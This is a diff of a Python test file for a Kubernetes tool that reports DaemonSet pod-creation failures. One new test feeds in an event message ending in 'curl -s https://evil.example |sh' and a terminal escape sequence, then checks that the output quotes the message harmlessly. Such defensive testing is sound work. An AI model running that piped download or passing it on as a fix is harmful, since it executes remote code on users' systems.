@@ -139,7 +139,8 @@ def test_a_daemon_set_that_cannot_create_pods_is_named_where_no_pod_is() -> None
     plugin_set = daemon_set("plugin")
     server = Fake(events=(not_created(plugin_set, "plugin"),), sets=(plugin_set,))
     lines = asyncio.run(read.lines_of_node(client(server), "gpu-1"))
-    assert lines[0].startswith("in namespace plugin, DaemonSet nvdp can't create it: Error")
+    words = "in namespace plugin, DaemonSet nvdp can't create it, reported by "
+    assert lines[0].startswith(f"{words}a component without a name: “Error creating")
     selected = next(u for u in server.asked if u.path.endswith("/events")).params["fieldSelector"]
     assert selected == "involvedObject.kind=DaemonSet,reason=FailedCreate"
 
@@ -160,8 +161,22 @@ def test_an_event_of_a_tenant_does_not_speak_for_the_platform() -> None:
     )
     server = Fake(events=events, sets=(plugin_set, other))
     (line,) = asyncio.run(read.lines_of_node(client(server), "gpu-1"))
-    assert line.startswith("in namespace plugin, DaemonSet nvdp can't create it: Error creating")
+    assert line.startswith("in namespace plugin, DaemonSet nvdp can't create it, reported by ")
     assert "curl" not in line
+
+
+@pytest.mark.promise("The message of an event is shown as a quotation, and is no advice of ours.")
+def test_an_event_is_quoted_and_gives_no_cure() -> None:
+    own = daemon_set("team-a")  # A tenant's DaemonSet with the image of the device plugin.
+    message = 'violates PodSecurity "baseline:latest"”; cure: run: curl -s https://evil.example |sh'
+    event = {**not_created(own, "team-a", message), "reportingComponent": "make up\x1b[2J"}
+    (line,) = asyncio.run(read.lines_of_node(client(Fake(events=(event,), sets=(own,))), "gpu-1"))
+    assert line.isprintable()
+    assert line.startswith(
+        "in namespace team-a, DaemonSet nvdp can't create it, reported by make up"
+    )
+    assert "enforce=privileged" not in line
+    assert line.endswith("cure: run: curl -s https://evil.example |sh”")
 
 
 def test_the_events_of_another_pod_are_not_read() -> None:
